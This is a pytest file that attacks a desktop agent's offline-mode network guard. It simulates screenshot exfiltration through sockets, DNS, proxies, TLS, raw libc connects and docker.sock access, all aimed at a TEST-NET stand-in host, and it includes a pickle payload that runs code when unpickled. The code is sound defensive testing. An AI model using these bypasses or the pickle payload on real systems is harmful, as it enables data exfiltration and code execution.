"""Offline mode attacked the way hostile code in a pixel-holding process would try it.

No test sends a packet off the machine: what could reach the network either runs in a forked
child inside an empty network namespace (no interface is up there), or has the real function
underneath replaced by a recorder before the guard is installed, or only tries once the guard is
proven to be installed. Destinations are TEST-NET addresses (RFC 5737) that route nowhere.
"""

from __future__ import annotations

import _socket
import ctypes
import functools
import http.server
import json
import multiprocessing as mp
import os
import pickle
import queue
import socket
import struct
import subprocess
import sys
import tempfile
import threading
import types
import urllib.request
from pathlib import Path

import pytest

from agent import netpolicy, offline, sandbox
from agent.inference.base import Backend
from agent.offline import OfflineGuard, OfflineViolation, attempts_since

OUTSIDE = "192.0.2.7"  # TEST-NET-1
ROOT = Path(__file__).resolve().parents[2]


@functools.cache
def userns_allowed() -> bool:
    """Whether this machine lets an unprivileged process have its own network namespace."""
    if not sys.platform.startswith("linux"):
        return False
    pid = os.fork()
    if pid == 0:
        try:
            sandbox.enter_network_namespace()
            os._exit(0)
        except BaseException:
            os._exit(1)
    return os.waitpid(pid, 0)[1] == 0


@pytest.fixture
def needs_userns() -> None:
    if not userns_allowed():
        pytest.skip("unprivileged user namespaces are off here")


def in_empty_netns(fn, *args):
    """fn(*args) in a forked child inside a new network namespace: nothing can leave it."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read)
        try:
            sandbox.enter_network_namespace()
            result = ("ok", fn(*args))
        except BaseException as exc:
            result = ("raised", repr(exc))
        os.write(write, pickle.dumps(result))
        os._exit(0)
    os.close(write)
    with os.fdopen(read, "rb") as f:
        data = f.read()
    os.waitpid(pid, 0)
    kind, value = pickle.loads(data)
    assert kind == "ok", value
    return value


def _outcome(attack) -> str:
    try:
        attack()
    except OfflineViolation:
        return "refused"
    except OSError as exc:
        return f"reached the kernel: {exc}"
    return "went through"


def _walkarounds() -> dict[str, str]:
    attacks = {
        "_socket.socket().connect": lambda: _socket.socket().connect((OUTSIDE, 80)),
        "_socket.SocketType().connect_ex": lambda: _socket.SocketType().connect_ex((OUTSIDE, 80)),
        "socket.SocketType().connect": lambda: socket.SocketType().connect((OUTSIDE, 80)),
        "super(socket.socket, s).connect": lambda: super(socket.socket, socket.socket()).connect(
            (OUTSIDE, 80)),
        "udp sendto": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
            b"pixels", (OUTSIDE, 53)),
        "udp sendto with flags": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
            b"pixels", 0, (OUTSIDE, 53)),
        "udp sendmsg": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg(
            [b"pixels"], [], 0, (OUTSIDE, 53)),
        "raw udp sendto": lambda: _socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
            b"pixels", (OUTSIDE, 53)),
        "ipv4-mapped ipv6": lambda: socket.socket(socket.AF_INET6).connect(
            ("::ffff:" + OUTSIDE, 80)),
        "create_connection": lambda: socket.create_connection((OUTSIDE, 80), timeout=1),
        "loopback DNS stub": lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
            b"pixels-in-a-name", ("127.0.0.53", 53)),
        "shorthand address": lambda: socket.socket().connect(("10.1", 80)),
        "0.0.0.0 (this host)": lambda: socket.socket().connect(("0.0.0.0", 80)),
        "raw IP socket to loopback": lambda: socket.socket(
            socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP).sendto(b"x", ("127.0.0.1", 0)),
        "AF_PACKET-like family": lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)
        .sendto(b"x", (0, 0)),
    }
    with OfflineGuard() as guard:
        result = {name: _outcome(attack) for name, attack in attacks.items()}
    result["recorded"] = str(len(guard.attempts))
    return result


def test_in_process_walkarounds_are_refused_before_the_kernel(needs_userns) -> None:
    result = in_empty_netns(_walkarounds)
    recorded = int(result.pop("recorded"))
    assert result == {name: "refused" for name in result}
    assert recorded == len(result)


class Underneath:
    """Records calls to the function the guard wraps; returns a canned answer."""

    def __init__(self, answer=None) -> None:
        self.calls: list[tuple] = []
        self.answer = answer

    def __call__(self, *args):
        self.calls.append(args)
        return self.answer(*args) if callable(self.answer) else self.answer


def test_a_connection_opened_before_the_run_cannot_send_during_it(monkeypatch) -> None:
    send, sendall, sendfile = Underneath(6), Underneath(), Underneath(0)
    monkeypatch.setattr(socket.socket, "send", send)
    monkeypatch.setattr(socket.socket, "sendall", sendall)
    monkeypatch.setattr(socket.socket, "sendfile", sendfile)
    # UDP "connect" only sets the peer (no packet): a keep-alive connection opened before the run.
    early = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    early.connect((OUTSIDE, 9))
    local = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    local.connect(("127.0.0.1", 9))
    try:
        with OfflineGuard() as guard, tempfile.TemporaryFile() as f:
            for attempt in (lambda: early.send(b"pixels"), lambda: early.sendall(b"pixels"),
                            lambda: early.sendfile(f)):
                with pytest.raises(OfflineViolation):
                    attempt()
            local.send(b"fine")  # loopback peers are allowed
        assert [a.operation for a in guard.attempts] == ["send", "sendall", "sendfile"]
        assert all(a.destination == f"{OUTSIDE}:9" for a in guard.attempts)
        assert send.calls == [(local, b"fine")] and sendall.calls == [] and sendfile.calls == []
    finally:
        early.close()
        local.close()


def test_serving_on_other_interfaces_is_refused() -> None:
    bound_early = socket.socket()
    bound_early.bind(("0.0.0.0", 0))  # before the run: listening during it would serve data
    try:
        with OfflineGuard() as guard:
            for host in ("0.0.0.0", "", "::"):
                family = socket.AF_INET6 if host == "::" else socket.AF_INET
                with socket.socket(family) as s, pytest.raises(OfflineViolation):
                    s.bind((host, 0))
            with pytest.raises(OfflineViolation):
                bound_early.listen()
            with socket.socket() as s:  # loopback serving stays possible (the eval sites)
                s.bind(("127.0.0.1", 0))
                s.listen()
        assert len(guard.attempts) == 4
    finally:
        bound_early.close()


@pytest.mark.parametrize("module", [socket, _socket])
def test_every_resolver_function_is_answered_without_a_resolver(monkeypatch, module) -> None:
    recorders = {}
    for name in ("getaddrinfo", "gethostbyname", "gethostbyname_ex", "gethostbyaddr",
                 "getnameinfo"):
        real = getattr(module, name)

        def numeric_only(*args, real=real, name=name):
            # Loopback numbers go to the real function; anything else would be a DNS query, so
            # the stand-in answers it (and the assertion below fails) without sending one.
            host = args[0][0] if name == "getnameinfo" else args[0]
            if offline.is_loopback_ip(str(host)):
                return real(*args)
            return ("10.66.0.1", 80) if name == "getnameinfo" else [] if name == "getaddrinfo" \
                else "10.66.0.1"

        recorders[name] = Underneath(numeric_only)
        monkeypatch.setattr(module, name, recorders[name])
    with OfflineGuard() as guard:
        for call in (lambda: module.getaddrinfo("pixels.example.invalid", 443),
                     lambda: module.gethostbyname("pixels.example.invalid"),
                     lambda: module.gethostbyname_ex("pixels.example.invalid"),
                     lambda: module.gethostbyaddr(OUTSIDE),
                     lambda: module.getnameinfo((OUTSIDE, 80), 0)):
            with pytest.raises(OfflineViolation):
                call()
        assert module.gethostbyname("localhost") == "127.0.0.1"
        assert module.gethostbyaddr("127.0.0.1")[0] == "localhost"  # no PTR query either
        assert module.getnameinfo(("127.0.0.1", 80), 0)[0] == "127.0.0.1"
    assert len(guard.attempts) == 5
    for name, recorder in recorders.items():
        for args in recorder.calls:  # only ever a numeric address reached the real function
            host = args[0][0] if name == "getnameinfo" else args[0]
            assert offline._ip(str(host)) is not None and offline.is_loopback_ip(str(host)), (name, args)


def test_localhost_names_are_decided_by_address(monkeypatch, tmp_path) -> None:
    # A resolver that answers a non-loopback address for every name (a hostile DNS server).
    hostile = Underneath(lambda host, *rest: [(socket.AF_INET, socket.SOCK_STREAM, 6, "",
                                               ("10.66.0.1", rest[0] if rest else 0))])
    monkeypatch.setattr(_socket, "getaddrinfo", hostile)
    hosts = tmp_path / "hosts"
    hosts.write_text("127.0.0.1 localhost\n10.66.0.1 localhost.localdomain\n::1 ip6-localhost\n")
    monkeypatch.setattr(netpolicy, "_HOSTS_FILE", hosts)
    connect = Underneath()
    monkeypatch.setattr(socket.socket, "connect", connect)
    with OfflineGuard() as guard:
        with socket.socket() as s:
            s.connect(("anything.localhost", 80))  # RFC 6761: loopback, answered here
        with socket.socket(socket.AF_INET6) as s:
            s.connect(("ip6-localhost", 80))
        with socket.socket() as s, pytest.raises(OfflineViolation):
            s.connect(("localhost.localdomain", 80))  # its hosts entry is not loopback
        with pytest.raises(OfflineViolation):
            socket.getaddrinfo("localhost.localdomain", 80)
        with pytest.raises(OfflineViolation):
            socket.getaddrinfo("my-nas.local", 80)  # not in hosts: would need DNS
    assert [c[1] for c in connect.calls] == [("127.0.0.1", 80), ("::1", 80)]
    assert all(offline._ip(str(c[0])) is not None for c in hostile.calls)  # never a name
    assert len(guard.attempts) == 3
    assert offline.is_loopback_host("x.localhost") and not offline.is_loopback_host(
        "localhost.localdomain")


class _FakeProxy(http.server.BaseHTTPRequestHandler):
    seen: list[str] = []

    def do_GET(self) -> None:  # a proxy gets the absolute URL: it would fetch it from outside
        _FakeProxy.seen.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"from outside")

    def log_message(self, *args) -> None:
        pass


def test_a_loopback_proxy_cannot_carry_requests_out(monkeypatch) -> None:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _FakeProxy)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    proxy = f"http://127.0.0.1:{server.server_address[1]}"
    for name in ("http_proxy", "HTTPS_PROXY", "ALL_PROXY"):
        monkeypatch.setenv(name, proxy)
    monkeypatch.setenv("no_proxy", "")
    early_opener = urllib.request.build_opener()  # captured the proxy before the run
    _FakeProxy.seen.clear()
    try:
        with OfflineGuard() as guard:
            assert "http_proxy" not in os.environ and "HTTPS_PROXY" not in os.environ
            for open_ in (urllib.request.urlopen, early_opener.open):
                with pytest.raises(OSError):
                    open_("http://pixels.example.invalid/upload", timeout=2)
        assert os.environ["http_proxy"] == proxy  # restored after the run
        assert _FakeProxy.seen == []
        assert any(a.destination.endswith(f":{server.server_address[1]}")
                   for a in guard.attempts)
    finally:
        server.shutdown()
        server.server_close()


def test_unix_sockets_only_the_desktop_needs(tmp_path) -> None:
    docker = tmp_path / "docker.sock"
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(docker))
    listener.listen()
    pymp = Path(tempfile.mkdtemp(prefix="pymp-"))  # multiprocessing's own folder: allowed
    (pymp / "link").symlink_to(docker)  # ... but not as a way to reach docker.sock
    ours = socket.socket(socket.AF_UNIX)
    ours.bind(str(pymp / "listener-1"))
    ours.listen()
    try:
        with OfflineGuard() as guard:
            for path in (str(docker), str(pymp / "link"), b"\0some-abstract-name"):
                with socket.socket(socket.AF_UNIX) as s, pytest.raises(OfflineViolation):
                    s.connect(path)
            with socket.socket(socket.AF_UNIX) as s:
                s.connect(str(pymp / "listener-1"))
        assert len(guard.attempts) == 3
        assert offline.unix_allowed("/tmp/.X11-unix/X0")
        assert not offline.unix_allowed("/var/run/docker.sock")
    finally:
        listener.close()
        ours.close()


# --- processes started during a run ------------------------------------------------------------

CHILD_CHECK = """
import json, socket, sys
from agent.offline import OfflineGuard, OfflineViolation
report = {"active": OfflineGuard.active(), "socket_module_guarded":
          socket.socket.connect.__qualname__ == "guarded.connect"}
if report["active"]:  # only then: an unguarded child must not send a packet in a test
    try:
        socket.socket().connect((sys.argv[1], 80))
    except OfflineViolation:
        report["refused"] = True
print(json.dumps(report))
"""


def _child_probe(results) -> None:
    import runpy  # noqa: F401  (anything: the guard is already there before this module ran)

    from agent.offline import OfflineGuard

    result = {"active": OfflineGuard.active()}
    if result["active"]:
        try:
            socket.socket().connect((OUTSIDE, 80))
        except OfflineViolation:
            result["refused"] = True
    results.put(result)


def test_subprocess_and_spawn_children_are_guarded_from_their_first_import() -> None:
    ctx = mp.get_context("spawn")
    results = ctx.Queue()
    with OfflineGuard() as guard:
        out = subprocess.run([sys.executable, "-c", CHILD_CHECK, OUTSIDE], capture_output=True, text=True,
                             timeout=60, cwd=ROOT)
        proc = ctx.Process(target=_child_probe, args=(results,))
        proc.start()
        spawned = results.get(timeout=60)
        proc.join(10)
    assert json.loads(out.stdout) == {"active": True, "socket_module_guarded": True,
                                      "refused": True}, out.stderr
    assert spawned == {"active": True, "refused": True}
    # The children's refusals are the run's: recorded in this process's view of the run.
    children = [a for a in guard.attempts if f"(pid {os.getpid()})" not in a.process]
    assert len(children) == 2 and all(a.destination == f"{OUTSIDE}:80" for a in children)
    assert "DESKHAND_OFFLINE" not in os.environ  # children after the run are not touched


# --- the model process -------------------------------------------------------------------------

class ProbeBackend(Backend):
    """Stands in for OnnxBackend inside the model process and attacks from there."""

    provider = "probe"

    def __init__(self, model_dir: str, provider: str = "auto") -> None:
        self.report = {"guard": OfflineGuard.active(), "strict": OfflineGuard._strict,
                       "isolation": sandbox.CURRENT.describe()}
        # The guard decides before the real method runs: a stand-in socket object shows that
        # decision without creating a socket (the syscall filter would refuse one anyway).
        for name, family, target in (("outside", socket.AF_INET, (OUTSIDE, 80)),
                                     ("loopback", socket.AF_INET, ("127.0.0.1", 9)),
                                     ("docker.sock", socket.AF_UNIX, "/var/run/docker.sock")):
            try:
                socket.socket.connect(types.SimpleNamespace(family=family), target)
                self.report[name] = "went through"
            except OfflineViolation:
                self.report[name] = "refused"
            except Exception as exc:  # the real method got the stand-in: the guard was absent
                self.report[name] = f"reached the real connect: {exc!r}"
        try:
            socket.socket().close()
            self.report["socket()"] = "created"
        except OSError as exc:
            self.report["socket()"] = exc.strerror
        if sandbox.CURRENT.network_namespace or sandbox.CURRENT.syscall_filter:
            self.report["raw"] = _raw_connect(OUTSIDE)  # ctypes: the Python guard is bypassed

    def warm_up(self) -> None:
        pass

    def _generate(self, request):
        from agent.inference.base import Generation

        return Generation(json.dumps(self.report), 0, 0, {}, "stop")


def _raw_connect(host: str) -> str:
    """socket(2) + connect(2) through libc, as native code would: what the kernel says."""
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.socket(socket.AF_INET, socket.SOCK_STREAM, 0)
    if fd < 0:
        return "socket: " + os.strerror(ctypes.get_errno())
    address = struct.pack("HH4s8x", socket.AF_INET, socket.htons(80), socket.inet_aton(host))
    rc = libc.connect(fd, address, len(address))
    error = ctypes.get_errno()
    os.close(fd)
    return "connected" if rc == 0 else "connect: " + os.strerror(error)


def test_the_model_process_refuses_everything_from_its_first_import() -> None:
    from app.procbackend import ProcessBackend

    backend = ProcessBackend(str(ROOT), "cpu",
                             backend_class="tests.agent.test_offline_guard_attack:ProbeBackend")
    try:
        report = json.loads(backend.generate([], []).text)
    finally:
        backend.close()
    assert report["guard"] and report["strict"]
    assert report["outside"] == "refused" and report["loopback"] == "refused"
    assert report["docker.sock"] == "refused"
    if backend.isolation.startswith("OS layer on"):
        assert report["socket()"] == "Operation not permitted"
    assert backend.isolation.startswith(report["isolation"])
    assert offline.isolation_notes()["model process"] == backend.isolation
    if userns_allowed():
        assert backend.isolation.startswith("OS layer on"), backend.isolation
        assert report["raw"] in ("socket: Operation not permitted",
                                 "connect: Network is unreachable"), report


def _raw_in_child(network: bool, syscalls: bool) -> dict[str, str]:
    state = sandbox.isolate(network=network, syscalls=syscalls)
    return {"state": state.describe(), "raw": _raw_connect(OUTSIDE)}


def _forked(fn, *args):
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read)
        try:
            result = ("ok", fn(*args))
        except BaseException as exc:
            result = ("raised", repr(exc))
        os.write(write, pickle.dumps(result))
        os._exit(0)
    os.close(write)
    with os.fdopen(read, "rb") as f:
        data = f.read()
    os.waitpid(pid, 0)
    kind, value = pickle.loads(data)
    assert kind == "ok", value
    return value


def test_each_os_layer_alone_stops_a_connect_that_bypasses_python(needs_userns) -> None:
    netns = _forked(_raw_in_child, True, False)
    assert netns["raw"] == "connect: Network is unreachable", netns
    filtered = _forked(in_empty_netns, _raw_in_child, False, True)  # filter tried in a netns
    assert filtered["raw"] == "socket: Operation not permitted", filtered


def test_os_layer_off_is_reported(monkeypatch) -> None:
    def refuse(_flags: int) -> None:
        raise PermissionError(1, "Operation not permitted")

    def state() -> str:
        monkeypatch.setattr(sandbox, "_unshare", refuse)
        return sandbox.isolate(network=True, syscalls=False).describe()

    text = _forked(state)  # isolate() changes the process it runs in: never this one
    assert text.startswith("OS layer off") and "not permitted here" in text
    offline.note_isolation("model process", text)
    try:
        assert offline.os_layer_warnings() == [f"model process: {text}"]
    finally:
        offline._isolation_notes.pop("model process", None)


def test_seccomp_program_jumps_land_on_allow_and_deny() -> None:
    program = sandbox.seccomp_program("x86_64")
    ops = [struct.unpack("HBBI", program[i:i + 8]) for i in range(0, len(program), 8)]
    allow, deny = len(ops) - 2, len(ops) - 1
    assert ops[allow] == (0x06, 0, 0, sandbox.SECCOMP_RET_ALLOW)
    assert ops[deny][3] == sandbox.SECCOMP_RET_ERRNO | 1
    for index, (code, jt, jf, _k) in enumerate(ops):
        if code in (0x15, 0x35):  # every conditional jump goes on, or to deny
            assert {index + 1 + jt, index + 1 + jf} <= {index + 1, deny}, index


def test_attempts_since_skips_forged_lines() -> None:
    log = OfflineGuard.new_child_log()
    log.write_text('{"when": "x"}\nnot json\n{"when": 4e9, "operation": "connect", '
                   '"destination": "10.0.0.1:80", "process": "child"}\n')
    assert [a.destination for a in attempts_since(3.9e9)] == ["10.0.0.1:80"]
    log.write_text("")


def test_eval_workers_start_under_the_guard(monkeypatch, tmp_path) -> None:
    from agent.eval import process_pool

    seen: list[str | None] = []

    class FakeProcess:
        def __init__(self, **kwargs) -> None:
            pass

        def start(self) -> None:
            seen.append(os.environ.get("DESKHAND_OFFLINE"))

        def is_alive(self) -> bool:
            return False

        def join(self, timeout=None) -> None:
            pass

    class FakeContext:
        Process = FakeProcess

        @staticmethod
        def Queue():
            return queue.Queue()

    monkeypatch.setattr(process_pool.multiprocessing, "get_context", lambda _kind: FakeContext)
    process_pool.run_parallel(None, tmp_path, [], 2, None, lambda _r: None)
    assert seen == ["1", "1"]
    assert "DESKHAND_OFFLINE" not in os.environ


# --- attempts are recorded and shown --------------------------------------------------------------

def leaky(reply: str):
    """A model reply computed by code that first tries to send the screenshot out."""

    def respond(_messages, _images) -> str:
        try:
            socket.create_connection((OUTSIDE, 443), timeout=1)
        except OfflineViolation:
            pass
        return reply

    return respond


def test_attempts_are_saved_with_their_step_and_run_and_shown(capsys) -> None:
    from agent.actions import LeftClick, Terminate, format_call
    from agent.inference.base import ScriptedBackend
    from agent.loop import run_task
    from agent.safety import Gate
    from agent.trajectory import TrajectoryStore
    from app.commands import main
    from tests.support.fakes import FakeScreen, RecordingExecutor

    store = TrajectoryStore()
    recorder = store.start("t")
    replies = [format_call("Click.", LeftClick((5, 5))),
               leaky(format_call("Done.", Terminate("success")))]
    run_task("t", backend=ScriptedBackend(replies), screen=FakeScreen(),
             executor=RecordingExecutor(), gate=Gate("never"), recorder=recorder)
    record = store.load(recorder.run_id)
    assert [len(s.offline_attempts) for s in record.steps] == [0, 1]
    (attempt,) = record.meta["offline"]["attempts"]
    assert attempt["operation"] == "resolve" and attempt["destination"] == OUTSIDE
    assert record.steps[1].offline_attempts == (attempt,)
    assert main(["runs", "show", recorder.run_id]) == 0
    out = capsys.readouterr().out
    assert f"offline mode refused resolve to {OUTSIDE}" in out
    assert "offline mode refused 1 attempt(s)" in out


class _Touch:
    """Unpickling this creates a file: code running in whoever unpickles it."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self):
        return (Path.touch, (Path(self.path),))


class PicklingBackend(ProbeBackend):
    """A model process taken over by native code: it writes a pickle to the app's pipe."""

    def _generate(self, request):
        import gc
        from multiprocessing.connection import Connection

        (conn,) = [o for o in gc.get_objects() if isinstance(o, Connection) and not o.closed]
        target = os.path.join(tempfile.gettempdir(), f"deskhand-pickled-{os.getppid()}")
        conn.send(("done", 1, _Touch(target)))  # pickle, as the pipe used to carry
        return super()._generate(request)


def test_the_app_never_unpickles_what_the_model_process_sends() -> None:
    from agent.inference.base import BackendError
    from app.procbackend import ProcessBackend

    target = Path(tempfile.gettempdir()) / f"deskhand-pickled-{os.getpid()}"
    target.unlink(missing_ok=True)
    backend = ProcessBackend(str(ROOT), "cpu",
                             backend_class="tests.agent.test_offline_guard_attack:PicklingBackend")
    try:
        with pytest.raises(BackendError, match="not in the protocol"):
            backend.generate([], [])
        assert not target.exists()  # no code of the child's choosing ran in the app
    finally:
        backend.close()
        target.unlink(missing_ok=True)


def _model_process_where_namespaces_are_off() -> dict:
    with open("/proc/sys/user/max_user_namespaces", "w") as f:
        f.write("0")  # this namespace's own limit: the model process can make none below it
    from app.procbackend import ProcessBackend

    backend = ProcessBackend(str(ROOT), "cpu",
                             backend_class="tests.agent.test_offline_guard_attack:ProbeBackend")
    try:
        report = json.loads(backend.generate([], []).text)
    finally:
        backend.close()
    return {"isolation": backend.isolation, "report": report,
            "warnings": offline.os_layer_warnings()}


def test_where_the_os_refuses_a_namespace_the_model_process_says_so(needs_userns) -> None:
    try:
        result = in_empty_netns(_model_process_where_namespaces_are_off)
    except AssertionError as exc:
        if "PermissionError" in str(exc):
            pytest.skip("cannot lower user.max_user_namespaces here")
        raise
    assert result["isolation"].startswith("OS layer partly on: socket syscalls blocked")
    assert "not permitted here" in result["isolation"]
    assert result["report"]["guard"] and result["report"]["outside"] == "refused"
    assert result["report"]["raw"] == "socket: Operation not permitted"
    assert result["warnings"] == [f"model process: {result['isolation']}"]


def test_an_allowed_lan_name_is_resolved_and_only_its_addresses_pass(monkeypatch) -> None:
    lookups = Underneath(lambda host, *rest: [(socket.AF_INET, socket.SOCK_STREAM, 6, "",
                                               ("10.66.0.1", 0))])
    monkeypatch.setattr(_socket, "getaddrinfo", lookups)
    connect = Underneath()
    monkeypatch.setattr(socket.socket, "connect", connect)
    with OfflineGuard(allow_hosts=("model-box.lan",)) as guard:
        with socket.socket() as s:
            s.connect(("model-box.lan", 8000))  # the user allowed this server (--allow-lan)
        with socket.socket() as s, pytest.raises(OfflineViolation):
            s.connect(("10.66.0.2", 8000))
        with pytest.raises(OfflineViolation):
            socket.getaddrinfo("other.lan", 80)
    assert [c[1] for c in connect.calls] == [("10.66.0.1", 8000)]
    assert [c[0] for c in lookups.calls] == ["model-box.lan"]
    assert len(guard.attempts) == 2


A11Y_UNDER_GUARD = """
from jeepney import DBusAddress, new_method_call
from jeepney.io.blocking import open_dbus_connection
from jeepney.wrappers import unwrap_msg
from agent.offline import OfflineGuard
with OfflineGuard() as guard:
    session = open_dbus_connection(bus="SESSION")
    bus = DBusAddress("/org/a11y/bus", bus_name="org.a11y.Bus", interface="org.a11y.Bus")
    reply = session.send_and_get_reply(new_method_call(bus, "GetAddress"), timeout=20)
    open_dbus_connection(bus=unwrap_msg(reply)[0]).close()
    session.close()
print("attempts:", len(guard.attempts))
"""


def test_the_desktop_buses_the_gate_reads_stay_reachable(tmp_path) -> None:
    """The session bus and the AT-SPI bus it names (where at-spi-bus-launcher puts it)."""
    pytest.importorskip("jeepney")
    import shutil

    if not (shutil.which("dbus-run-session") and Path("/usr/libexec/at-spi-bus-launcher").exists()):
        pytest.skip("no dbus-run-session / at-spi-bus-launcher here")
    env = {k: v for k, v in os.environ.items() if k not in ("XDG_RUNTIME_DIR",
                                                              "DBUS_SESSION_BUS_ADDRESS")}
    out = subprocess.run(["dbus-run-session", "--", sys.executable, "-c", A11Y_UNDER_GUARD],
                         capture_output=True, text=True, timeout=60, cwd=ROOT, env=env)
    assert "attempts: 0" in out.stdout, out.stderr[-2000:]


class LyingBackend(ProbeBackend):
    """A model process that claims an OS layer it does not have."""

    def __init__(self, model_dir: str, provider: str = "auto") -> None:
        super().__init__(model_dir, provider)
        sandbox.CURRENT = sandbox.Isolation(True, True, "all layers on")


def _lying_model_process() -> str:
    with open("/proc/sys/user/max_user_namespaces", "w") as f:
        f.write("0")
    from app.procbackend import ProcessBackend

    backend = ProcessBackend(str(ROOT), "cpu",
                             backend_class="tests.agent.test_offline_guard_attack:LyingBackend")
    backend.close()
    return backend.isolation


def test_the_app_checks_the_os_layer_in_proc_instead_of_believing_the_model_process(
        needs_userns) -> None:
    try:
        isolation = in_empty_netns(_lying_model_process)
    except AssertionError as exc:
        if "PermissionError" in str(exc):
            pytest.skip("cannot lower user.max_user_namespaces here")
        raise
    assert isolation.startswith("OS layer partly on: socket syscalls blocked"), isolation
    assert "reported otherwise" in isolation


def test_a_model_process_that_missed_the_start_up_hook_refuses_to_load(monkeypatch) -> None:
    from agent.inference.base import BackendError
    from app import procbackend

    monkeypatch.setattr(procbackend, "child_environment", lambda **_kw: {})
    with pytest.raises(BackendError, match="offline mode could not be set up"):
        procbackend.ProcessBackend(str(ROOT), "cpu",
                                   backend_class="tests.agent.test_offline_guard_attack:ProbeBackend")


class _FakeJudge(http.server.BaseHTTPRequestHandler):
    def do_POST(self) -> None:
        self.rfile.read(int(self.headers["Content-Length"]))
        body = json.dumps({"choices": [{"message": {"content": "VERDICT: SUCCESS"}}]}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args) -> None:
        pass


def test_the_model_judge_reaches_its_loopback_name_by_address_and_no_proxy(monkeypatch) -> None:
    """Between runs (no guard), `judge.localhost` must not go to a resolver or a proxy."""
    from agent.eval.model_judge import ModelJudge

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _FakeJudge)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    port = server.server_address[1]
    real_lookup = _socket.getaddrinfo

    def answer(host, *rest):  # numbers as the real resolver gives them; names: a public address
        if offline._ip(str(host)) is not None:
            return real_lookup(host, *rest)
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("10.66.0.1", port))]

    hostile = Underneath(answer)
    real_connect = socket.socket.connect

    def connect(sock, address):  # loopback really connects; anything else never leaves
        if not offline.is_loopback_ip(str(address[0])):
            raise ConnectionRefusedError("test: would have left the machine")
        return real_connect(sock, address)

    monkeypatch.setattr(_socket, "getaddrinfo", hostile)
    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setenv("http_proxy", "http://127.0.0.1:9")  # nothing listens: a proxy would fail
    try:
        verdict = ModelJudge(f"http://judge.localhost:{port}/v1", timeout=10).judge("t", "a", [])
    finally:
        server.shutdown()
        server.server_close()
    assert verdict["passed"] is True
    assert not any(str(c[0]) == "judge.localhost" for c in hostile.calls)


def test_tls_connections_opened_before_the_run_are_checked_too() -> None:
    """TLS writes go through OpenSSL, not socket.send: the peer check must sit on SSLSocket."""
    import ssl

    listener = socket.create_server(("127.0.0.1", 0))
    plain = socket.create_connection(listener.getsockname(), timeout=2)
    peer, _ = listener.accept()
    context = ssl.create_default_context()
    tls = context.wrap_socket(plain, server_hostname="x", do_handshake_on_connect=False)
    try:
        # Strict (the model process's mode) refuses loopback peers, so a loopback connection
        # stands in for an outside one here without any packet leaving the machine.
        with OfflineGuard(strict=True) as guard:
            for attempt in (lambda: tls.send(b"pixels"), lambda: tls.write(b"pixels"),
                            lambda: tls.sendall(b"pixels")):
                with pytest.raises(OfflineViolation):
                    attempt()
        peer.setblocking(False)
        with pytest.raises(BlockingIOError):
            peer.recv(1)  # not even a TLS handshake byte was written
        assert [a.operation for a in guard.attempts] == ["send", "write", "send"]
    finally:
        for s in (tls, peer, listener):
            s.close()
